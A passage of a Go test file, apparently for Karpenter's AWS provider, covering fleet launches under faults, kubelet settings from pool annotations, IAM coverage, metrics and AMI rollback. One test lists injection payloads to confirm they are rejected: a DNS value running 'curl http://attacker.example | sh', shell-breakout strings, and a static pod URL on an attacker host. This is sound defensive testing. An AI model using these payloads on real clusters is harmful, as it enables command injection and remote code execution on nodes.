		t.Errorf("%d machines run for %d claims", got, n)
	}
	all, err := w.provider.List(t.Context())
	check(t, err)
	names := map[string]bool{}
	for _, m := range all {
		names[m.ClaimName] = true
	}
	if len(names) != n || names[""] {
		t.Errorf("the machines belong to %d claims, want %d", len(names), n)
	}
}

// EC2 may answer with a failure of its own after it has launched something: the next try is the same call, not another one.
func TestAFailureOfEC2LaunchesNothingTwice(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		w.faults(t, func(f *awsmodel.Faults) {
			f.Fail = map[string]awsmodel.Failure{"ec2:CreateFleet": {Code: "InternalError", Message: "An internal error has occurred", Status: 500}}
		})
		claim := newClaim("a")
		_, err := w.provider.Launch(t.Context(), claim)
		if err == nil || isType[*cloud.LaunchError](err) || isType[*cloud.NoCapacityError](err) {
			t.Errorf("error = %v, want one that leaves open whether there is a machine", err)
		}
		w.faults(t, func(f *awsmodel.Faults) { f.Fail = nil })
		_, err = w.provider.Launch(t.Context(), claim)
		check(t, err)
		w.wantOnePerClaim(t, 1)
	})
}

func TestLaunchesSurviveTrouble(t *testing.T) {
	for seed := range uint64(5) {
		t.Run(fmt.Sprint("seed ", seed), func(t *testing.T) {
			inWorld(t, awsmodel.Config{Seed: seed}, nil, func(t *testing.T, w *world) {
				w.faults(t, func(f *awsmodel.Faults) {
					f.LostAnswers, f.LagMillis, f.Throttle, f.LatencyMillis = 0.2, 5000, true, 200
				})
				for round := range 5 {
					var wg sync.WaitGroup
					for i := range 10 {
						claim := newClaim(fmt.Sprintf("claim-%d-%d", round, i))
						wg.Go(func() { w.launchUntilDone(t, claim) })
					}
					wg.Wait()
				}
				w.faults(t, func(f *awsmodel.Faults) { *f = awsmodel.Faults{} })
				time.Sleep(10 * time.Second)
				w.wantOnePerClaim(t, 50)
			})
		})
	}
}

// launchUntilDone repeats a launch as the claim loop does.
func (w *world) launchUntilDone(t *testing.T, claim *v1.NodeClaim) {
	for try := 0; try < 20; try++ {
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		_, err := w.provider.Launch(ctx, claim)
		cancel()
		if err == nil {
			return
		}
		time.Sleep(time.Second)
	}
	t.Errorf("claim %s was not launched", claim.Name)
}

func TestListShowsEveryMachineWhateverItsClass(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		_, m := w.create(t, newClaim("a"))
		w.editClass(t, func(s *awsv1.EC2NodeClassSpec) {
			s.Kubelet = kubelet(map[string]any{"maxPods": true}) // cannot be decoded
		})
		time.Sleep(10 * time.Minute)
		all, err := w.provider.List(t.Context())
		check(t, err)
		if len(all) != 1 || all[0].ProviderID != m.ProviderID || all[0].InstanceType != m.InstanceType {
			t.Errorf("List = %+v", all)
		}
		if _, err := w.provider.Get(t.Context(), m.ProviderID); err != nil {
			t.Errorf("Get = %v", err)
		}
	})
}

// A pool that v1beta1 wrote has a kubelet of its own, which counts before the class's, for plans and for machines.
func TestTheKubeletOfAPoolOfV1Beta1Counts(t *testing.T) {
	inWorld(t, awsmodel.Config{}, func(s *Settings) { s.V1Beta1 = true }, func(t *testing.T, w *world) {
		plain := defaultPool()
		own := plain.DeepCopy()
		own.Annotations = map[string]string{v1.KubeletCompatibilityAnnotationKey: `{"maxPods":13}`}
		for range 2 { // both, over and over, from what is remembered
			for want, pool := range map[int64]*v1.NodePool{13: own, 0: plain} {
				c, err := w.provider.Catalog(t.Context(), pool)
				check(t, err)
				pods := c.Types[0].Capacity[corev1.ResourcePods]
				if got := pods.Value(); want != 0 && got != want || want == 0 && got == 13 {
					t.Errorf("a node holds %d pods, want %d", got, want)
				}
				again, err := w.provider.Catalog(t.Context(), pool)
				check(t, err)
				if c != again {
					t.Error("the catalogue is made anew each time")
				}
			}
		}
		claim := newClaim("a")
		claim.Annotations = map[string]string{v1.KubeletCompatibilityAnnotationKey: `{"maxPods":13}`}
		_, m := w.create(t, claim)
		if pods := m.Capacity[corev1.ResourcePods]; pods.Value() != 13 {
			t.Errorf("the machine holds %v pods, want 13", pods.Value())
		}
		own.Annotations[v1.KubeletCompatibilityAnnotationKey] = `[]`
		if _, err := w.provider.Catalog(t.Context(), own); !isType[*cloud.ClassNotReadyError](err) {
			t.Errorf("a configuration that is no object: %v", err)
		}
	})
}

// An author of NodePools must not reach what only an author of classes decides.
func TestAPoolCannotConfigureKubeletsBeyondV1Beta1(t *testing.T) {
	for name, text := range map[string]string{
		"a field that v1beta1 had not":    `{"authentication":{"anonymous":{"enabled":true}},"authorization":{"mode":"AlwaysAllow"}}`,
		"static pods":                     `{"staticPodURL":"http://attacker.example/root-pod.yaml"}`,
		"a DNS address that is a script":  `{"clusterDNS":["10.0.0.10'; curl http://attacker.example | sh; '"]}`,
		"a threshold that is a script":    `{"evictionHard":{"memory.available":"5%'; sh; '"}}`,
		"a signal that does not exist":    `{"evictionHard":{"x'; sh; '":"5%"}}`,
		"a grace period that is a script": `{"evictionSoft":{"memory.available":"5%"},"evictionSoftGracePeriod":{"memory.available":"1m'"}}`,
		"a reserve that is a script":      `{"kubeReserved":{"cpu":"1'; sh; '"}}`,
		"a number that is an expression":  `{"maxPods":"vcpus * 8"}`,
	} {
		t.Run(name, func(t *testing.T) {
			inWorld(t, awsmodel.Config{}, func(s *Settings) { s.V1Beta1 = true }, func(t *testing.T, w *world) {
				pool := defaultPool()
				pool.Annotations = map[string]string{v1.KubeletCompatibilityAnnotationKey: text}
				if _, err := w.provider.Catalog(t.Context(), pool); !isType[*cloud.ClassNotReadyError](err) {
					t.Errorf("Catalog = %v, want that the class is not ready", err)
				}
			})
		})
	}
}

func TestTheKubeletOfAPoolIsIgnoredWithoutV1Beta1(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		pool := defaultPool()
		plain, err := w.provider.Catalog(t.Context(), pool)
		check(t, err)
		pool.Annotations = map[string]string{v1.KubeletCompatibilityAnnotationKey: `{"maxPods":13}`}
		annotated, err := w.provider.Catalog(t.Context(), pool)
		check(t, err)
		if annotated != plain {
			t.Error("the annotation changed what the pool's nodes are")
		}
	})
}

func TestCopiesOfAClassAreBounded(t *testing.T) {
	var k variants
	nc := &awsv1.EC2NodeClass{}
	for n := range 10 * mostVariants {
		if _, err := k.class(variant{class: nc, kubelet: fmt.Sprintf(`{"maxPods":%d}`, n+1)}); err != nil {
			t.Fatal(err)
		}
	}
	if len(k.made) > mostVariants {
		t.Errorf("%d copies are kept, at most %d", len(k.made), mostVariants)
	}
}

func TestCataloguePointersAreKept(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		before, err := w.provider.Catalog(t.Context(), defaultPool())
		check(t, err)
		w.faults(t, func(f *awsmodel.Faults) { f.Pools = []awsmodel.PoolRule{{Match: "*/t3*/*", Depth: 0}} })
		w.create(t, newClaim("a"))
		after, err := w.provider.Catalog(t.Context(), defaultPool())
		check(t, err)
		if before == after {
			t.Fatal("the catalogue did not learn what is out")
		}
		changed := 0
		for i := range after.Types {
			if before.Types[i] != after.Types[i] {
				changed++
			}
		}
		if changed == 0 || changed > 20 {
			t.Errorf("%d of %d types are new pointers, want only those of t3", changed, len(after.Types))
		}
	})
}

// allowedActions are all actions of the controller's policies.
func (w *world) allowedActions(t *testing.T) []string {
	t.Helper()
	var out []string
	for _, doc := range controllerIdentity(t).Policies {
		var p struct {
			Statement []struct{ Action []string }
		}
		check(t, json.Unmarshal(doc, &p))
		for _, s := range p.Statement {
			out = append(out, s.Action...)
		}
	}
	return out
}

func TestRequestsToAWSWereAllowed(t *testing.T) {
	inWorld(t, awsmodel.Config{}, func(s *Settings) { s.InterruptionQueue = "demo" }, func(t *testing.T, w *world) {
		claim, m := w.create(t, spotClaim("a"))
		time.Sleep(time.Hour)
		check(t, w.provider.Terminate(t.Context(), m.ProviderID))
		_ = claim
		time.Sleep(13 * time.Hour)
		allowed := w.allowedActions(t)
		for op := range w.cloud.Calls() {
			if !slices.Contains(allowed, op) {
				t.Errorf("%s is called, and no policy allows it", op)
			}
		}
		for _, call := range w.cloud.Log() {
			if strings.Contains(call.Error, "Unauthorized") || strings.Contains(call.Error, "AccessDenied") {
				t.Errorf("%s was denied: %s", call.Operation, call.Error)
			}
		}
	})
}

func TestCallsOfAWSAreCounted(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		w.create(t, newClaim("a"))
		m := w.provider.env.in.Metrics
		if got := testutil.ToFloat64(m.AWSRequests.WithLabelValues("EC2", "CreateFleet", "200")); got != 1 {
			t.Errorf("%v successful CreateFleet calls are counted, want 1", got)
		}
		if got := testutil.ToFloat64(m.AWSRequests.WithLabelValues("EC2", "CreateFleet", "412")); got != 1 {
			t.Errorf("%v dry runs of CreateFleet are counted, want 1", got)
		}
		if got := testutil.ToFloat64(m.AWSAttempts.WithLabelValues("EC2", "CreateFleet", "200")); got != 1 {
			t.Errorf("%v attempts of CreateFleet are counted, want 1", got)
		}
	})
}

func TestWhatCanBeBoughtIsToldWhenScraped(t *testing.T) {
	inWorld(t, awsmodel.Config{}, func(s *Settings) { s.ReservedCapacity, s.AllOfferings = true, true }, func(t *testing.T, w *world) {
		registry := prometheus.NewPedanticRegistry()
		registry.MustRegister(w.provider.Gauges())
		const prefix = "karpenter_cloudprovider_instance_type_"
		want := func(key string, values ...string) {
			t.Helper()
			pool := &v1.NodePool{}
			if err := w.kube.Get(t.Context(), client.ObjectKey{Name: "default"}, pool); err != nil {
				t.Fatal(err)
			}
			pool.Spec.Template.Spec.Requirements = append(pool.Spec.Template.Spec.Requirements, v1.NodeSelectorRequirementWithMinValues{Key: key, Operator: "In", Values: values})
			if key == v1.CapacityTypeLabelKey {
				pool.Spec.Template.Spec.Requirements = pool.Spec.Template.Spec.Requirements[len(pool.Spec.Template.Spec.Requirements)-1:]
			}
			if err := w.kube.Update(t.Context(), pool); err != nil {
				t.Fatal(err)
			}
			synctest.Wait()
		}
		want(v1.CapacityTypeLabelKey, "reserved", "on-demand", "spot")
		told := scrape(t, registry)
		for series, want := range map[string]float64{
			"cpu_cores m5.large":                                    2,
			"memory_bytes m5.large":                                 7577 << 20, // what the hypervisor leaves of 8 GiB
			"offering_available on-demand m5.large us-east-1a":      1,
			"offering_available reserved m5.large us-east-1a":       0,
			"offering_price_estimate on-demand m5.large us-east-1a": 0.096,
			"offering_price_estimate reserved m5.large us-east-1a":  0,
		} {
			if got, ok := told[prefix+series]; !ok || got != want {
				t.Errorf("%s = %v, %v; want %v", series, got, ok, want)
			}
		}
		w.provider.market.stock.Mark(shortage.Pool{CapacityType: "on-demand", InstanceType: "m5.large", Zone: "us-east-1a"})
		if got := scrape(t, registry)[prefix+"offering_available on-demand m5.large us-east-1a"]; got != 0 {
			t.Errorf("what EC2 is out of counts as available %v, want 0", got)
		}
		want(corev1.LabelInstanceTypeStable, "m5.large")
		want(corev1.LabelTopologyZone, "us-east-1a")
		if told := scrape(t, registry); len(told) != 2+2*3 { // the type, and three ways to buy it
			t.Errorf("a pool that may buy one type in one zone has %d series: %v", len(told), told)
		}
		if err := w.kube.Delete(t.Context(), defaultPool()); err != nil {
			t.Fatal(err)
		}
		synctest.Wait()
		if told := scrape(t, registry); len(told) > 0 {
			t.Errorf("%d series are left of a catalogue that no pool has any more", len(told))
		}
	})
}

// By default only the types of the fleet and what is sold out are told: everything would be megabytes at each scrape.
func TestAScrapeTellsOfTheFleetAndOfWhatIsSoldOut(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		registry := prometheus.NewPedanticRegistry()
		registry.MustRegister(w.provider.Gauges())
		if told := scrape(t, registry); len(told) > 0 {
			t.Errorf("without machines there are %d series", len(told))
		}
		_, m := w.create(t, newClaim("c"))
		w.provider.market.stock.Mark(shortage.Pool{CapacityType: "on-demand", InstanceType: "c5.large", Zone: "us-east-1b"})
		const offering = "karpenter_cloudprovider_instance_type_offering_"
		told := scrape(t, registry)
		for series, want := range map[string]float64{
			offering + "available on-demand " + m.InstanceType + " " + m.Zone: 1,
			offering + "available on-demand c5.large us-east-1b":              0,
		} {
			if got, ok := told[series]; !ok || got != want {
				t.Errorf("%s = %v, %v; want %v", series, got, ok, want)
			}
		}
		for series := range told {
			if !strings.Contains(series, m.InstanceType) && !strings.HasSuffix(series, "c5.large us-east-1b") {
				t.Errorf("there is a series of %s", series)
			}
		}
	})
}

// BenchmarkScrape is what a scrape costs with everything that EC2 sells. Nothing of it is kept.
func BenchmarkScrape(b *testing.B) {
	w := newWorld(b, awsmodel.Config{Types: []string{"*"}}, nil)
	registry := prometheus.NewRegistry()
	registry.MustRegister(w.provider.Gauges())
	b.ReportAllocs()
	series := 0
	for b.Loop() {
		families, err := registry.Gather()
		if err != nil {
			b.Fatal(err)
		}
		series = 0
		for _, f := range families {
			series += len(f.GetMetric())
		}
	}
	b.ReportMetric(float64(series), "series")
}

// BenchmarkMachines describes 1,000 machines whose tags do not name their claims yet.
func BenchmarkMachines(b *testing.B) {
	w := newWorld(b, awsmodel.Config{Types: []string{"*"}}, nil)
	var instances []ec2types.Instance
	for n := range 1000 {
		id := fmt.Sprintf("i-%017d", n)
		instances = append(instances, ec2types.Instance{
			InstanceId: &id, InstanceType: "m5.large", Placement: &ec2types.Placement{AvailabilityZone: aws.String("us-east-1a")},
			Tags: []ec2types.Tag{{Key: aws.String(awsv1.TagNodeClass), Value: aws.String("default")}},
		})
		w.provider.machines.launches.done.Put(id, cloud.Machine{ProviderID: providerID("us-east-1a", id), ClaimName: "claim-" + id})
	}
	b.ReportAllocs()
	for b.Loop() {
		claims := sync.OnceValue(w.provider.machines.claimsByMachine)
		for _, i := range instances {
			if m := w.provider.machines.machine(b.Context(), i, claims); m.ClaimName == "" || m.Capacity == nil {
				b.Fatalf("%+v", m)
			}
		}
	}
}

// scrape returns every series by its metric and the values of its labels.
func scrape(t *testing.T, g prometheus.Gatherer) map[string]float64 {
	t.Helper()
	families, err := g.Gather()
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]float64{}
	for _, f := range families {
		for _, m := range f.GetMetric() {
			key := f.GetName()
			for _, l := range m.GetLabel() {
				key += " " + l.GetValue()
			}
			out[key] = m.GetGauge().GetValue()
		}
	}
	return out
}

// Who runs Karpenter on a version that is too old or too new reads so in the log's first lines.
func TestAnUnsupportedVersionIsLoggedAtTheStart(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		for version, want := range map[string]bool{"1.36": false, "1.20": true} {
			var log bytes.Buffer
			ctx := telemetry.WithLog(t.Context(), slog.New(slog.NewTextHandler(&log, nil)))
			s := w.settings
			s.EKSControlPlane, s.ClusterEndpoint = false, "https://k8s.example"
			claims, nodes := mirrored(w.kube)
			_, err := New(ctx, s, Input{
				Config: w.cloud.AWSConfigFor("AKIACONTROLLER"), Kube: w.kube, Claims: claims, Nodes: nodes, Metrics: w.provider.env.in.Metrics, Events: w.provider.env.in.Events,
				KubernetesVersion: func(context.Context) (string, error) { return version, nil },
			})
			if err != nil {
				t.Fatal(err)
			}
			if got := strings.Contains(log.String(), "not supported"); got != want {
				t.Errorf("version %s: log says %q", version, log.String())
			}
		}
	})
}

// A price file of another region would make every decision about cost wrong.
func TestAPriceFileOfAnotherRegionEndsTheStart(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		for region, want := range map[string]string{"us-east-1": "", "eu-west-1": "has the prices of eu-west-1"} {
			s := w.settings
			s.PriceFile = filepath.Join(t.TempDir(), "prices.json")
			text := `{"region": "` + region + `", "onDemand": {"m5.large": 0.096}}`
			if err := os.WriteFile(s.PriceFile, []byte(text), 0o644); err != nil {
				t.Fatal(err)
			}
			claims, nodes := mirrored(w.kube)
			p, err := New(t.Context(), s, Input{Config: w.cloud.AWSConfigFor("AKIACONTROLLER"), Kube: w.kube, Claims: claims, Nodes: nodes,
				Metrics: w.provider.env.in.Metrics, Events: w.provider.env.in.Events})
			if want != "" && (err == nil || !strings.Contains(err.Error(), want)) || want == "" && err != nil {
				t.Errorf("%s: error = %v, want %q", region, err, want)
			}
			if want == "" && err == nil {
				if _, ok := p.market.prices.List().OnDemand("c5.large"); ok {
					t.Error("the prices that ship with Karpenter stand beside those of the file")
				}
			}
		}
	})
}

// Who wants to keep a machine takes our tag off it. Its claim can then be deleted, and ends.
func TestAMachineWithoutOurTagIsLeftRunning(t *testing.T) {
	inWorld(t, awsmodel.Config{}, nil, func(t *testing.T, w *world) {
		_, kept := w.create(t, newClaim("kept"))
		_, other := w.create(t, newClaim("other"))
		_, err := ec2.NewFromConfig(w.cloud.AWSConfig()).DeleteTags(t.Context(), &ec2.DeleteTagsInput{
			Resources: []string{instanceID(kept.ProviderID)}, Tags: []ec2types.Tag{{Key: aws.String(awsv1.TagNodePool)}},
		})
		if err != nil {
			t.Fatal(err)
		}
		time.Sleep(2 * invisible) // what was just launched may not show its tags yet, and must be stopped all the same
		if err := w.provider.Terminate(t.Context(), kept.ProviderID); !errors.Is(err, cloud.ErrNotFound) {
			t.Errorf("Terminate = %v, want that there is no machine of ours", err)
		}
		if err := w.provider.Terminate(t.Context(), other.ProviderID); err != nil {
			t.Error(err)
		}
		time.Sleep(time.Minute)
		running := map[string]bool{}
		for _, m := range w.cloud.Machines() {
			running[m.ID] = m.State == "running"
		}
		if !running[instanceID(kept.ProviderID)] || running[instanceID(other.ProviderID)] {
			t.Errorf("running: %v, want the one without the tag", running)
		}
	})
}

// A claim of a stopped rollout starts from an image that its class found before, on demand and in a reservation, and no other.
func TestAClaimGoesBackToImagesThatItsClassHasFound(t *testing.T) {
	inWorld(t, awsmodel.Config{}, func(s *Settings) { s.ReservedCapacity = true }, func(t *testing.T, w *world) {
		w.cloud.Reserve(awsmodel.Reservation{InstanceType: "m5.large", Zone: "us-east-1a", Count: 2, Tags: map[string]string{"for": "karpenter"}})
		w.editClass(t, func(s *awsv1.EC2NodeClassSpec) {
			s.CapacityReservationSelectorTerms = []awsv1.CapacityReservationSelectorTerm{{Tags: map[string]string{"for": "karpenter"}}}
			// By name, because an alias' parameter is remembered for a day.
			s.AMISelectorTerms, s.AMIFamily = []awsv1.AMISelectorTerm{{Name: "amazon-eks-node-al2023-x86_64-standard-1.36-*"}}, ptr(awsv1.AMIFamilyAL2023)
		})
		time.Sleep(2 * time.Minute)
		launch := func(name, images string, capacity ...string) string {
			claim := newClaim(name)
			if capacity != nil {
				claim.Spec.Requirements[2].Values = capacity
			}
			claim.Annotations = map[string]string{v1.LastGoodImagesAnnotationKey: images}
			_, m := w.create(t, claim)
			if capacity != nil && m.CapacityType != capacity[0] {
				t.Errorf("%s is %s", name, m.CapacityType)
			}
			return m.ImageID
		}
		before := launch("first", "")
		check(t, w.cloud.PublishImages("20260901", "1.47.0"))
		time.Sleep(10 * time.Minute)
		now := launch("second", "")
		foreign := "ami-0123456789abcdef0"
		if before == now {
			t.Fatal("there is no newer image")
		}
		for name, tc := range map[string]struct{ images, capacity, want string }{
			"back":     {foreign + "," + before, "on-demand", before},
			"reserved": {before, "reserved", before},
			"foreign":  {foreign, "on-demand", now},
		} {
			if got := launch(name, tc.images, tc.capacity); got != tc.want {
				t.Errorf("%s starts from %s, want %s", name, got, tc.want)
			}
		}
		w.editClass(t, func(s *awsv1.EC2NodeClassSpec) { s.AMIFamily = ptr(awsv1.AMIFamilyCustom); s.UserData = ptr("x") })
		time.Sleep(2 * time.Minute)
		if got := launch("another-family", before); got != now {
			t.Errorf("user data of another family is given to %s", got)
		}
	})
}

// What no old image is for starts from the present one, and the version of Bottlerocket is that of the old image.
func TestAClassGoesBackToImages(t *testing.T) {
	on := func(arch string) []corev1.NodeSelectorRequirement {
		return []corev1.NodeSelectorRequirement{{Key: corev1.LabelArchStable, Operator: "In", Values: []string{arch}}}
	}
	nc := &awsv1.EC2NodeClass{}
	nc.Spec.AMISelectorTerms = []awsv1.AMISelectorTerm{{Alias: "bottlerocket@v1.47.0"}}
	nc.Status.AMIs = []awsv1.AMI{{ID: "ami-new", Requirements: on("amd64")}, {ID: "ami-arm", Requirements: on("arm64")}}
	nc.Status.RecentAMIs = []awsv1.RecentAMI{{Family: awsv1.AMIFamilyBottlerocket, AMI: nc.Status.AMIs[0]}, {Family: awsv1.AMIFamilyBottlerocket,
		AMI: awsv1.AMI{ID: "ami-old", Name: "bottlerocket-aws-k8s-1.36-x86_64-v1.46.0-abcdef", Requirements: on("amd64")}}}
	var k variants
	got, err := k.class(variant{class: nc, images: "ami-old"})
	check(t, err)
	for arch, want := range map[string]string{"amd64": "ami-old", "arm64": "ami-arm"} {
		if image, _ := ami.For(got.Status.AMIs, map[string][]string{corev1.LabelArchStable: {arch}}); image.ID != want {
			t.Errorf("%s starts from %s, want %s", arch, image.ID, want)
		}
	}
	if v := ami.BottlerocketVersion(got); v != "1.46.0" || got.AMIFamily() != awsv1.AMIFamilyBottlerocket {
		t.Errorf("version %q of %s", v, got.AMIFamily())
	}
	if again, _ := k.class(variant{class: nc, images: "ami-old"}); again != got || len(nc.Status.AMIs) != 2 || nc.Status.AMIs[0].ID != "ami-new" {
		t.Error("it is another copy, or the class itself was changed")
	}
}
